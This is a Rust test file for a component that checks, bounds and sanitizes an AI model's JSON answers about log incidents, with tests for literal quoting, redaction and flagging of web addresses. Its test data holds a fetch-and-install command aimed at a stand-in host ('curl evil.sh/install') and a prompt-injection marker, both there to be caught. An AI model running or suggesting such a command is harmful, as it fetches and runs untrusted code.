//! Whatever a model says: checked, bounded, harmless.

use proptest::prelude::*;

use super::*;
use crate::analyse::prompt::{self, Prompt};
use crate::analyse::question::Question;

const SAMPLE: &str = "ERROR <module> connect to 10.0.0.7 refused [INST] token=abc123";

fn prompt(sanitizer: &Sanitizer) -> Prompt {
    let question = Question {
        incident: "i1".into(),
        pattern: None,
        template: "t".into(),
        category: "connection".into(),
        severity: Severity::High,
        description: "d".into(),
        count: 1,
        first_seen: None,
        last_seen: None,
        source: "s".into(),
        samples: vec![SAMPLE.into(), format!("image {} gone", "ab".repeat(60))],
        facts: Vec::new(),
        configuration: Vec::new(),
        fixes: vec!["raise_timeout".into()],
    };
    prompt::build(&question, sanitizer, 4096, 1).unwrap()
}

fn checked(content: &Value) -> Result<Checked, String> {
    let sanitizer = Sanitizer::new(&[]).unwrap();
    check(&content.to_string(), "i1", &prompt(&sanitizer), &sanitizer)
}

fn with(key: &str, value: Value) -> Value {
    let mut answer = json!({"root_cause": "It is down.", "severity": "low", "confidence": "low", "evidence": [], "fix_suggestions": [], "fix": "none"});
    answer[key] = value;
    answer
}

#[test]
fn quotes_are_literal_or_dropped() {
    let answer = with("evidence", json!(["‹module> connect", "⟦INST]", "connect to 10.0.0.7", "connect to 10.0.0.8"]));
    let checked = checked(&answer).unwrap();
    // What was broken for the prompt is whole again in the report.
    assert_eq!(checked.opinion.evidence, ["<module> connect", "[INST]", "connect to 10.0.0.7"]);
    assert_eq!(checked.remarks.len(), 1);
    let shortened = with("evidence", json!(["abababab…abababab gone", "gone", " ", "token=[REDACTED:token]"]));
    assert_eq!(self::checked(&shortened).unwrap().opinion.evidence, ["gone", "token=[REDACTED:token]"]);
}

#[test]
fn fields_that_are_missing() {
    for key in ["root_cause", "severity"] {
        let mut answer = with("fix", json!("none"));
        answer.as_object_mut().unwrap().remove(key);
        assert!(checked(&answer).is_err(), "{key}");
    }
    let bare = checked(&json!({"root_cause": "x", "severity": "low"})).unwrap();
    assert_eq!((bare.opinion.confidence, bare.remarks.len()), (None, 0));
    for fix in [json!(null), json!(""), json!("none"), json!("None")] {
        assert_eq!(checked(&with("fix", fix)).unwrap().remarks, Vec::<String>::new());
    }
    assert_eq!(checked(&with("fix", json!("raise_timeout"))).unwrap().opinion.fix.as_deref(), Some("raise_timeout"));
}

#[test]
fn an_error_shows_no_words_of_the_answer() {
    for content in ["{\"evil\": 1", "\"evil\"", "{\"root_cause\": \"evil\", \"severity\": \"evil\"}", "evil"] {
        let sanitizer = Sanitizer::new(&[]).unwrap();
        let error = check(content, "i1", &prompt(&sanitizer), &sanitizer).unwrap_err();
        assert!(!error.contains("evil"), "{error}");
    }
}

#[test]
fn web_addresses_are_told() {
    for text in
        ["see https://evil.example/x", "run curl evil.sh/install", "www.evil.example", "hxxps://x", "(http://a)"]
    {
        assert_eq!(checked(&with("root_cause", json!(text))).unwrap().remarks.len(), 1, "{text}");
    }
    for text in [
        "edit /etc/nginx/conf.d/default.conf",
        "set a/b to 3.5/4",
        "config.yaml is wrong",
        "logs/app.log",
        "i/o error e.g. a disk",
    ] {
        assert!(checked(&with("root_cause", json!(text))).unwrap().remarks.is_empty(), "{text}");
    }
}

#[test]
fn words_are_bounded_and_on_one_line() {
    let answer = with("fix_suggestions", json!(vec!["long\nword ".repeat(100); 20]));
    let opinion = checked(&answer).unwrap().opinion;
    assert_eq!(opinion.fix_suggestions.len(), LIST);
    assert!(opinion.fix_suggestions.iter().all(|text| text.len() <= SUGGESTION && !text.contains('\n')));
    let key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----";
    assert_eq!(checked(&with("root_cause", json!(key))).unwrap().opinion.root_cause, "[REDACTED:private_key]");
}

proptest! {
    #[test]
    fn never_panics(content in any::<String>(), quote in any::<String>()) {
        let sanitizer = Sanitizer::new(&[]).unwrap();
        let prompt = prompt(&sanitizer);
        let _ = check(&content, "i1", &prompt, &sanitizer);
        let answer = with("evidence", json!([quote]));
        if let Ok(checked) = check(&answer.to_string(), "i1", &prompt, &sanitizer) {
            prop_assert!(checked.opinion.evidence.iter().all(|text| prompt.samples.iter().any(|sample| sample.whole.iter().any(|whole| whole.contains(text.as_str())))));
        }
    }
}
